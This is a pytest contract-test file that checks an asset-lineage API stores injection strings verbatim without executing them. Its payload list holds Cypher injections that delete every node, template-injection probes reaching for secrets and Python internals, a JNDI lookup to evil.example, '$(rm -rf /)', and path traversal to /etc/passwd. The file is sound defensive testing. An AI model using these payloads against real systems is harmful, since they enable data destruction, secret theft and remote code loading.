"""Cypher- and template-injection strings in every id, metadata key and value, text field and filter: stored
and returned verbatim, never executed, and the database is intact afterwards."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from litestar.testing import TestClient

from tests.contract.helpers import flow_yaml

PAYLOADS = [
    "' OR 1=1 //",
    '" OR true RETURN a //',
    "x'}) MATCH (n) DETACH DELETE n //",
    'x"}) MATCH (n) DETACH DELETE n WITH 1 AS x MATCH (m {key: "',
    "}]->(b) DELETE b //",
    "$key",
    "${tenantId}",
    "`Asset`",
    "x; CALL db.clearQueryCaches()",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
    "UNION ALL MATCH (a:Asset) RETURN a",
    "\\' OR 1=1 --",
    "{{ 7*7 }}",
    "{{ secret('AWS_KEY') }}",
    "{% for x in range(10) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "../../../etc/passwd",
    "%2F..%2Fadmin",
    "Robert'); DROP TABLE Students;--",
    "😀 ünïcödé ✓ 中文",
    "a" * 500,
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payloads_are_data(client: TestClient, base: str, payload: str) -> None:
    before = len(client.get(f"{base}/assets", params={"size": 1000}).json()["results"])
    body = {
        "type": payload[:256],
        "displayName": payload,
        "description": payload,
        "metadata": {payload[:128]: payload, "plain": payload},
    }
    url = f"{base}/assets/{quote(payload, safe='')}"
    put = client.put(url, json=body)
    assert put.status_code == 201, put.text
    got = client.get(url).json()
    assert got["id"] == payload and got["displayName"] == payload and got["description"] == payload
    assert got["metadata"] == {payload[:128]: payload, "plain": payload} and got["type"] == payload[:256]
    listed = client.get(f"{base}/assets", params={f"metadata.{payload[:128]}": payload, "size": 1000}).json()
    assert [a["id"] for a in listed["results"]] == [payload]
    by_type = client.get(f"{base}/assets", params={"type": payload[:256]}).json()
    assert [a["id"] for a in by_type["results"]] == [payload]
    assert client.get(f"{base}/assets", params={"namespace": payload[:256]}).json()["total"] == 0
    assert client.get(f"{url}/impact").json()["total"] == 0
    search = f"{base}/assets/search"
    kestra_filters = {"filters[id][EQUALS]": payload, f"filters[metadata][EQUALS][{payload[:128]}]": payload}
    found = client.get(search, params=kestra_filters)
    if "[" in payload[:128] or "]" in payload[:128]:  # Kestra's syntax cannot name such a key: a 400, not a guess
        assert found.status_code == 400 and found.json()["field"].startswith("filters[metadata]")
    else:
        assert [a["id"] for a in found.json()["results"]] == [payload]
    assert client.get(search, params={"filters[q][CONTAINS]": payload}).json()["total"] >= 1
    assert client.get(search, params={"filters[namespace][PREFIX]": payload[:256]}).json()["total"] == 0
    after = client.get(f"{base}/assets", params={"size": 1000}).json()["results"]
    assert len(after) == before + 1  # nothing else appeared, nothing disappeared


def test_payloads_in_executions_and_expressions(client: TestClient, base: str) -> None:
    tenant = base.split("/")[3]
    runs = [
        {
            "taskId": f"t{i}",
            "value": p,
            "assets": {"inputs": [{"id": f"in-{p}"}], "outputs": [{"id": f"out-{p}", "metadata": {"k": p}}]},
        }
        for i, p in enumerate(PAYLOADS)
    ]
    r = client.post(f"{base}/executions", json={"namespace": "company.team", "flowId": "inj", "taskRuns": runs})
    assert r.status_code == 201, r.text
    assert [t["value"] for t in r.json()["taskRuns"]] == PAYLOADS
    for p in PAYLOADS:
        impact = client.get(f"{base}/assets/{quote('in-' + p, safe='')}/impact").json()
        assert [i["id"] for i in impact["results"]] == [f"out-{p}"]
        assert impact["results"][0]["via"][0]["value"] == p
    # an input value is data inside a template: it is not evaluated again
    flow = (
        flow_yaml("upload_file")
        .replace("- id: raw_customer", '- id: "{{ inputs.name }}"')
        .replace("tasks:", "inputs:\n  - id: name\n    type: STRING\n\ntasks:", 1)
    )
    r = client.post(f"{base}/executions", json={"flow": flow, "inputs": {"name": "{{ 7*7 }}"}})
    assert r.status_code == 201, r.text
    assert r.json()["taskRuns"][1]["outputs"] == ["{{ 7*7 }}"]
    # expression variables are data too
    rendered = client.post(f"{base}/expressions", json={"expression": "{{ v }}", "variables": {"v": "{{ 7*7 }}"}})
    assert rendered.json()["rendered"] == "{{ 7*7 }}"
    stats = client.get(f"/api/v1/{tenant}/stats").json()
    assert stats["duplicateEdges"] == 0 and stats["assets"] >= 2 * len(PAYLOADS)


def test_control_characters_and_bad_namespaces_are_refused(client: TestClient, base: str) -> None:
    assert client.put(f"{base}/assets/{quote(chr(0) + 'x', safe='')}", json={"type": "x"}).status_code == 422
    assert (
        client.put(f"{base}/assets/ok", json={"type": "x", "namespace": "a'}) DETACH DELETE n //"}).status_code == 400
    )
    assert client.put(f"{base}/assets/ok", json={"type": "x", "metadata": {"k\u0000": 1}}).status_code == 400
